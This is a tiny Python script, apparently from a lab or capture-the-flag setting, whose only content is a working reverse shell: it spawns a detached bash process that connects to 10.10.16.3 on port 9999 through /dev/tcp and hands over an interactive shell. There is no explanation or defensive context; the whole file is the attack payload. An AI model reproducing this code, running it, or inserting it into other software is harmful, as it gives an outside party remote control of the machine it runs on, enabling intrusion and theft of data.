import subprocess

LHOST = "10.10.16.3"
LPORT = 9999
subprocess.Popen(
    ["bash", "-c", f"bash -i >& /dev/tcp/{LHOST}/{LPORT} 0>&1"],
    start_new_session=True,
)
